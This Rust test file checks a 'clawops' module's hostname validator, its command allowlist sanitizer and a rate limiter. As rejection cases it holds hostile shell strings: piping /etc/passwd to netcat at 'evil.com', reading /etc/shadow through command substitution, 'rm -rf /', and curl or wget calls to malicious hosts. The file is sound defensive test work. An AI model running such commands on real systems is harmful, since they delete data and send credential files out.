use clawops::auth::{AuthError, InputSanitizer};

fn message(r: Result<(), AuthError>) -> String {
    match r {
        Err(AuthError::InvalidInput(m)) => m,
        other => panic!("expected InvalidInput, got {:?}", other),
    }
}

#[test]
fn test_validate_hostname_valid() {
    assert!(InputSanitizer::validate_hostname("example.com").is_ok());
    assert!(InputSanitizer::validate_hostname("my-host-01").is_ok());
    assert!(InputSanitizer::validate_hostname("node1.eu.clawops.io").is_ok());
}

#[test]
fn test_validate_hostname_invalid() {
    assert!(InputSanitizer::validate_hostname("").is_err());
    assert!(InputSanitizer::validate_hostname("-bad.com").is_err());
    assert!(InputSanitizer::validate_hostname("bad-.com").is_err());
    assert!(InputSanitizer::validate_hostname("bad..com").is_err());
    assert!(InputSanitizer::validate_hostname("bad_host").is_err());
}

#[test]
fn test_validate_command_valid() {
    assert!(InputSanitizer::validate_command("docker ps").is_ok());
    assert!(InputSanitizer::validate_command("systemctl status openclaw").is_ok());
    assert!(InputSanitizer::validate_command("df -h").is_ok());
    assert!(InputSanitizer::validate_command("uptime").is_ok());
}

#[test]
fn test_validate_command_rejects_metacharacters() {
    assert!(InputSanitizer::validate_command("docker ps; rm -rf /").is_err());
    assert!(InputSanitizer::validate_command("cat /etc/passwd | nc 1.2.3.4 9999").is_err());
    assert!(InputSanitizer::validate_command("`whoami`").is_err());
    assert!(InputSanitizer::validate_command("$(cat /etc/shadow)").is_err());
    assert!(InputSanitizer::validate_command("cmd && evil").is_err());
}

#[test]
fn test_validate_command_rejects_not_in_allowlist() {
    assert!(InputSanitizer::validate_command("rm -rf /").is_err());
    assert!(InputSanitizer::validate_command("curl http://evil.com").is_err());
    assert!(InputSanitizer::validate_command("python3 exploit.py").is_err());
}

#[test]
fn test_validate_command_rejects_control_characters() {
    assert!(InputSanitizer::validate_command("docker ps\nrm -rf /").is_err());
    assert!(InputSanitizer::validate_command("uptime\0").is_err());
}

#[test]
fn test_cannot_execute_shell_metacharacters_in_ssh_exec() {
    let malicious_commands = vec![
        "docker ps; rm -rf /",
        "ls && cat /etc/passwd",
        "uptime | nc evil.com 4444",
        "uname `whoami`",
        "date $(cat /etc/shadow)",
        "hostname > /tmp/exfil",
        "id < /dev/null",
        "ls (bad)",
        "ps {bad}",
        "df -h\nrm -rf /",
        "uptime\0evil",
    ];
    for cmd in &malicious_commands {
        let result = InputSanitizer::validate_command(cmd);
        assert!(result.is_err(), "malicious command must be rejected: {:?}", cmd);
    }
}

#[test]
fn test_allowlist_commands_pass_sanitization() {
    let safe_commands = vec![
        "docker ps",
        "systemctl status openclaw",
        "df -h",
        "free",
        "uptime",
        "journalctl",
        "hostname",
        "uname",
        "whoami",
        "date",
        "id",
    ];
    for cmd in &safe_commands {
        let result = InputSanitizer::validate_command(cmd);
        assert!(
            result.is_ok(),
            "safe command must pass sanitization: {:?}, error: {:?}",
            cmd,
            result.err()
        );
    }
}

#[test]
fn test_non_allowlist_commands_rejected_even_without_metacharacters() {
    let blocked = vec![
        "rm -rf /",
        "curl http://example.com",
        "python3 script.py",
        "bash exploit.sh",
        "wget http://malware.com",
        "ssh root@other-host",
    ];
    for cmd in &blocked {
        let result = InputSanitizer::validate_command(cmd);
        assert!(
            result.is_err(),
            "non-allowlist command must be rejected even without metacharacters: {:?}",
            cmd
        );
    }
}

#[test]
fn test_validate_hostname_adversarial() {
    let long_hostname = "a".repeat(254);
    let bad_hostnames: Vec<&str> = vec![
        "",
        "host; rm -rf /",
        long_hostname.as_str(),
        "-starts-with-hyphen.com",
        "ends-with-hyphen-.com",
        "double..dots.com",
        "host_with_underscore.com",
    ];
    for hostname in &bad_hostnames {
        assert!(
            InputSanitizer::validate_hostname(hostname).is_err(),
            "bad hostname must be rejected: {:?}",
            hostname
        );
    }
}

// ─── Exact messages ──────────────────────────────────────────────────────────

#[test]
fn hostname_error_messages_are_exact() {
    assert_eq!(message(InputSanitizer::validate_hostname("")), "hostname is empty");
    assert_eq!(
        message(InputSanitizer::validate_hostname(&"a".repeat(254))),
        "hostname exceeds 253 characters"
    );
    assert_eq!(
        message(InputSanitizer::validate_hostname("a..b")),
        "hostname has empty label (consecutive dots)"
    );
    assert_eq!(
        message(InputSanitizer::validate_hostname("ok.-bad.x_y")),
        "hostname label '-bad' starts or ends with hyphen"
    );
    assert_eq!(
        message(InputSanitizer::validate_hostname("good.b_d")),
        "hostname label 'b_d' contains invalid characters"
    );
    assert_eq!(
        message(InputSanitizer::validate_hostname("trailing.")),
        "hostname has empty label (consecutive dots)"
    );
}

#[test]
fn hostname_length_limit_is_253_bytes() {
    let at_limit = "a".repeat(253);
    assert!(InputSanitizer::validate_hostname(&at_limit).is_err() == false);
    // 2-byte characters count twice toward the limit and are not ASCII alnum.
    assert!(InputSanitizer::validate_hostname("é").is_err());
}

#[test]
fn command_error_messages_are_exact() {
    assert_eq!(message(InputSanitizer::validate_command("")), "command is empty");
    // The first forbidden character in list order is named, not the first in the text.
    assert_eq!(
        message(InputSanitizer::validate_command("ls | x ; y")),
        "command contains forbidden metacharacter ';'"
    );
    assert_eq!(
        message(InputSanitizer::validate_command("uptime\r")),
        "command contains control characters"
    );
    assert_eq!(
        message(InputSanitizer::validate_command("   rm -rf   ")),
        "command 'rm -rf' is not in the allowed command list"
    );
}

#[test]
fn command_is_trimmed_before_allowlist_check() {
    assert!(InputSanitizer::validate_command("  uptime  ").is_ok());
    assert!(InputSanitizer::validate_command("\tdocker ps\t").is_ok());
    // Prefix match: anything starting with an allowed prefix passes.
    assert!(InputSanitizer::validate_command("idle-check").is_ok());
}

// ─── RateLimiter ────────────────────────────────────────────────────────────

#[test]
fn test_rate_limiter_allows_within_limit() {
    let mut rl = clawops::auth::RateLimiter::new(5);
    for _ in 0..5 {
        assert!(rl.record_call("hetzner").is_ok());
    }
}

#[test]
fn test_rate_limiter_rejects_over_limit() {
    let mut rl = clawops::auth::RateLimiter::new(3);
    for _ in 0..3 {
        rl.record_call("vultr").unwrap();
    }
    assert!(
        matches!(rl.record_call("vultr"), Err(AuthError::RateLimitExceeded(3))),
        "4th call should be rate-limited"
    );
}

#[test]
fn test_rate_limiter_separate_keys() {
    let mut rl = clawops::auth::RateLimiter::new(2);
    rl.record_call("hetzner").unwrap();
    rl.record_call("hetzner").unwrap();
    // hetzner is full, but vultr is fresh
    assert!(rl.record_call("vultr").is_ok());
    assert!(rl.record_call("hetzner").is_err());
}

#[test]
fn rate_limiter_window_slides() {
    let mut rl = clawops::auth::RateLimiter::new(2);
    assert_eq!(rl.record_call_at("k", 1_000_000).unwrap(), 1);
    assert_eq!(rl.record_call_at("k", 1_030_000).unwrap(), 0);
    // Rejected calls are recorded too.
    assert!(matches!(rl.record_call_at("k", 1_059_999), Err(AuthError::RateLimitExceeded(2))));
    assert_eq!(rl.remaining_at("k", 1_059_999), 0);
    // At exactly 60 s after the first call it has left the window.
    assert!(matches!(rl.record_call_at("k", 1_060_000), Err(AuthError::RateLimitExceeded(2))));
    assert_eq!(rl.remaining_at("k", 1_200_000), 2);
    assert_eq!(rl.record_call_at("k", 1_200_000).unwrap(), 1);
    assert_eq!(rl.remaining_at("other", 0), 2);
}

#[test]
fn validate_command_trims_unicode_white_space() {
    // U+3000 and U+00A0 are White_Space; U+200B is not.
    assert!(InputSanitizer::validate_command("\u{3000}\u{a0}uptime\u{2003}").is_ok());
    assert!(InputSanitizer::validate_command("\u{200b}uptime").is_err());
    for c in ['\u{9}', '\u{b}', ' ', '\u{85}', '\u{a0}', '\u{1680}', '\u{2000}', '\u{200a}', '\u{2028}', '\u{2029}', '\u{202f}', '\u{205f}', '\u{3000}'] {
        assert!(c.is_whitespace());
    }
}

#[test]
fn rate_limiter_record_call_allows_until_limit() {
    let mut rl = clawops::auth::RateLimiter::new(2);
    assert!(matches!(rl.record_call("k"), Ok(1)));
    assert!(matches!(rl.record_call("k"), Ok(0)));
    assert!(matches!(rl.record_call("k"), Err(AuthError::RateLimitExceeded(2))));
    assert_eq!(rl.remaining("k"), 0);
    assert!(matches!(rl.record_call("other"), Ok(1)));
}
